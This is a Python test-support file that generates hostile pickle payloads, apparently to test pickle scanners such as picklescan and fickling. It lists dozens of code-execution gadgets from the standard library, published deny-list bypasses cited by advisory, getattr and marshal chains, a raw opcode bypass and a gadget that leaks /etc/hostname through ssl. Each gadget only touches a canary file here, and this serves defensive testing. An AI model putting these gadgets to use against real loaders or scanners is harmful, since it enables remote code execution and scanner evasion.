"""Payloads of Python's own library: each runs, on any machine, where a pickle is simply loaded."""

from __future__ import annotations

import marshal
import pickle
import sys
from collections.abc import Iterator
from pathlib import Path

from support.hostile.assembler import Built, Call, Name, Raw, assemble, text
from support.hostile.case import FICKLING, PICKLESCAN, Hostile, gadget, python, shell
from support.hostile.torch_format import torch_zip

_GETATTR = Name("builtins", "getattr")
_IMPORT = Name("builtins", "__import__")
_SYSTEM = Name("os", "system")


def _inner(canary: Path) -> bytes:
    return assemble(_SYSTEM(shell(canary)))


def _code(canary: Path) -> Call:
    return Name("builtins", "compile")(python(canary), "x", "exec")


class _Reducing:
    """What most tutorials show."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce_ex__(self, protocol: object) -> tuple[object, ...]:
        import os

        return os.system, (self.command,)


def by_name() -> Iterator[Hostile]:
    """Functions that run a command or a text, by their names."""
    yield gadget("os.system", lambda c: _SYSTEM(shell(c)))
    yield gadget("os.system, protocol 0", lambda c: _SYSTEM(shell(c)), protocol=0)
    yield gadget("os.system, protocol 4", lambda c: _SYSTEM(shell(c)), protocol=4)
    yield gadget("os.system, protocol 5", lambda c: _SYSTEM(shell(c)), protocol=5)
    yield gadget("posix.system", lambda c: Name("posix", "system")(shell(c)))
    yield gadget("os.popen", lambda c: Name("os", "popen")(shell(c)))
    yield gadget("os.spawnlp", lambda c: Name("os", "spawnlp")(0, "touch", "touch", str(c)))
    yield gadget("subprocess.Popen", lambda c: Name("subprocess", "Popen")(["touch", str(c)]))
    yield gadget("subprocess.check_output", lambda c: Name("subprocess", "check_output")(["touch", str(c)]))
    yield gadget("subprocess.getoutput", lambda c: Name("subprocess", "getoutput")(shell(c)))
    yield gadget("builtins.eval", lambda c: Name("builtins", "eval")(python(c)))
    yield gadget("builtins.exec", lambda c: Name("builtins", "exec")(python(c)))
    yield gadget("__builtin__.eval of Python 2", lambda c: Name("__builtin__", "eval")(python(c)))
    yield gadget("commands.getoutput of Python 2", lambda c: Name("commands", "getoutput")(shell(c)))
    yield gadget("builtins.compile, then exec", lambda c: Name("builtins", "exec")(_code(c)))
    yield gadget("builtins.open for writing", lambda c: Name("builtins", "open")(str(c), "w"))
    yield gadget("io.FileIO", lambda c: Name("io", "FileIO")(str(c), "w"))
    yield gadget("logging.FileHandler", lambda c: Name("logging", "FileHandler")(str(c)))
    yield gadget(
        "pathlib.Path.touch", lambda c: Name("pathlib", "Path.touch")(Name("pathlib", "Path")(str(c))), protocol=4
    )
    yield gadget(
        "distutils.file_util.write_file",
        lambda c: Name("distutils.file_util", "write_file")(str(c), ["x"]),
        runs=sys.version_info < (3, 12),
    )
    yield gadget("urllib.request.urlretrieve", lambda c: Name("urllib.request", "urlretrieve")("data:,x", str(c)))
    yield gadget("shutil's os.system", lambda c: Name("shutil", "os.system")(shell(c)), protocol=4)


def published() -> Iterator[Hostile]:
    """Bypasses that were published against scanners with a deny-list."""
    of = Name
    yield gadget(
        "pkgutil.resolve_name",
        lambda c: of("pkgutil", "resolve_name")("os:system")(shell(c)),
        source=PICKLESCAN + "GHSA-vvpj-8cmc-gx39",
    )
    yield gadget(
        "pydoc.locate", lambda c: of("pydoc", "locate")("os.system")(shell(c)), source=FICKLING + "GHSA-5hvc-6wx8-mvv4"
    )
    yield gadget("pydoc.pipepager", lambda c: of("pydoc", "pipepager")("x", shell(c)), source=PICKLESCAN)
    once = (Name("time", "perf_counter"), 1)  # not the usual million times
    yield gadget(
        "timeit.timeit",
        lambda c: of("timeit", "timeit")(python(c), "pass", *once),
        source=PICKLESCAN + "GHSA-v7x6-rv5q-mhwc",
    )
    yield gadget("cProfile.run", lambda c: of("cProfile", "run")(python(c)), source=FICKLING + "GHSA-p523-jq9w-64x9")
    yield gadget("profile.run", lambda c: of("profile", "run")(python(c)), source=PICKLESCAN)
    yield gadget(
        "bdb.Bdb.run", lambda c: of("bdb", "Bdb.run")(of("bdb", "Bdb")(), python(c)), protocol=4, source=PICKLESCAN
    )
    yield gadget("trace.Trace.run", lambda c: of("trace", "Trace.run")(of("trace", "Trace")(), python(c)), protocol=4)
    yield gadget(
        "code.InteractiveInterpreter.runcode",
        lambda c: of("code", "InteractiveInterpreter.runcode")(of("code", "InteractiveInterpreter")(), _code(c)),
        protocol=4,
        source=FICKLING + "GHSA-q5qq-mvfm-j35x",
    )
    yield gadget("pty.spawn", lambda c: of("pty", "spawn")(["touch", str(c)]), source=FICKLING + "GHSA-r7v6-mfhq-g3m2")
    yield gadget(
        "runpy._run_code", lambda c: of("runpy", "_run_code")(_code(c), {}), source=FICKLING + "GHSA-wfq2-52f7-7qvj"
    )
    yield gadget(
        "webbrowser.GenericBrowser.open",
        lambda c: of("webbrowser", "GenericBrowser.open")(of("webbrowser", "GenericBrowser")("touch"), str(c)),
        protocol=4,
    )
    yield gadget("asyncio's subprocess transport", _asyncio, protocol=4, source=PICKLESCAN + "GHSA-f7qq-56ww-84cr")
    yield gadget(
        "multiprocessing.util.spawnv_passfds",
        lambda c: of("multiprocessing.util", "spawnv_passfds")(b"/bin/sh", [b"sh", b"-c", shell(c).encode()], ()),
        protocol=3,
        source=FICKLING + "GHSA-q5qq-mvfm-j35x",
    )
    yield gadget(
        "lib2to3's Grammar.loads, a pickle in the pickle",
        lambda c: of("lib2to3.pgen2.grammar", "Grammar.loads")(of("lib2to3.pgen2.grammar", "Grammar")(), _inner(c)),
        protocol=4,
        runs=sys.version_info < (3, 13),
        source=PICKLESCAN,
    )
    advisory = PICKLESCAN + "GHSA-g38g-8gr9-h9xp"
    yield gadget(
        "uuid._get_command_stdout", lambda c: of("uuid", "_get_command_stdout")("touch", str(c)), source=advisory
    )
    yield gadget("_osx_support._read_output", lambda c: of("_osx_support", "_read_output")(shell(c)), source=advisory)
    yield gadget(
        "_aix_support._read_cmd_output",
        lambda c: of("_aix_support", "_read_cmd_output")(shell(c)),
        runs=sys.version_info >= (3, 12),
        source=advisory,
    )
    yield gadget("imaplib.IMAP4_stream", lambda c: of("imaplib", "IMAP4_stream")(shell(c)), source=advisory)
    yield gadget(
        "idlelib.calltip.get_entity",
        lambda c: of("idlelib.calltip", "get_entity")(python(c)),
        runs=False,  # it needs tkinter
        source=PICKLESCAN,
    )
    yield gadget(
        "idlelib.run.Executive.runcode",
        lambda c: of("idlelib.run", "Executive.runcode")(of("idlelib.run", "Executive")(None), _code(c)),
        protocol=4,
        runs=False,
        source=PICKLESCAN,
    )
    yield gadget(
        "linecache, out through ssl",
        lambda c: of("ssl", "get_server_certificate")((of("linecache", "getline")("/etc/hostname", 1), 443)),
        runs=False,  # it would ask a name server
        source=PICKLESCAN,
    )


def _asyncio(canary: Path) -> Call:
    start = Name("asyncio.unix_events", "_UnixSubprocessTransport._start")
    return start(Name("types", "SimpleNamespace")(), ["touch", str(canary)], False, None, None, None, 0)


def chains() -> Iterator[Hostile]:
    """Ways to a function that never name it."""
    yield gadget("getattr of an import", lambda c: _GETATTR(_IMPORT("os"), "system")(shell(c)))
    yield gadget(
        "getattr of importlib.import_module",
        lambda c: _GETATTR(Name("importlib", "import_module")("os"), "system")(shell(c)),
        source="https://github.com/mmaitre314/picklescan/issues/66",
    )
    yield gadget("operator.attrgetter", lambda c: Name("operator", "attrgetter")("system")(_IMPORT("os"))(shell(c)))
    yield gadget("operator.methodcaller", lambda c: Name("operator", "methodcaller")("system", shell(c))(_IMPORT("os")))
    yield gadget("functools.partial", lambda c: Name("functools", "partial")(_SYSTEM)(shell(c)))
    yield gadget(
        "map, consumed by list", lambda c: Name("builtins", "list")(Name("builtins", "map")(_SYSTEM, [shell(c)]))
    )
    yield gadget("pickle.loads", lambda c: Name("pickle", "loads")(_inner(c)), protocol=3)
    yield gadget("_pickle.loads", lambda c: Name("_pickle", "loads")(_inner(c)), protocol=3)
    yield gadget("ctypes' libc", _libc, protocol=3)
    yield gadget("marshal and types.FunctionType", _marshalled, protocol=3, source=FICKLING + "GHSA-565g-hwwr-4pp3")
    yield gadget(
        "collections' own sys.modules",
        lambda c: _GETATTR(Name("collections", "_sys.modules.get")("os"), "system")(shell(c)),
        protocol=4,
    )
    yield gadget("the globals of OrderedDict's module", _module_globals, protocol=4)
    yield gadget("an instance's own __setstate__", _own_setstate)
    yield gadget("a class whose attributes are set", _polluted)
    yield _reducing(5)
    yield _reducing(1)
    yield gadget("sys.modules replaced by itself", _replaced_sys, source=PICKLESCAN)


def _libc(canary: Path) -> Call:
    return _GETATTR(Name("ctypes", "CDLL")(None), "system")(shell(canary).encode())


def _marshalled(canary: Path) -> Call:
    code = marshal.dumps(compile(python(canary), "x", "exec"))
    return Name("types", "FunctionType")(Name("marshal", "loads")(code), {})()


def _module_globals(canary: Path) -> Call:
    item = Name("operator", "getitem")
    modules = _GETATTR(item(Name("collections", "namedtuple.__globals__"), "_sys"), "modules")
    return _GETATTR(item(modules, "os"), "system")(shell(canary))


def _own_setstate(canary: Path) -> Built:
    return Built(Name("types", "SimpleNamespace")(), ({"__setstate__": _SYSTEM}, shell(canary)))


def _polluted(canary: Path) -> list[object]:
    queue = Name("queue", "Queue")
    return [Built(queue, ((None, {"_init": _SYSTEM}),)), queue(shell(canary))]


def _reducing(protocol: int) -> Hostile:
    def content(canary: Path) -> bytes:
        return pickle.dumps({"model": _Reducing(shell(canary))}, protocol)

    return Hostile(
        f"__reduce_ex__, protocol {protocol}", lambda c: torch_zip(content(c)), pickles=lambda c: [content(c)]
    )


def _replaced_sys(canary: Path) -> Raw:
    modules = b"csys\nmodules\np0\n"
    by_itself = text("sys") + b"g0\ns"  # sys.modules["sys"] = sys.modules, so that `sys get` is its method
    by_os = text("sys") + b"csys\nget\n(" + text("os") + b"tRs"
    return Raw(modules + by_itself + by_os + b"0csys\nsystem\n(" + text(shell(canary)) + b"tR")
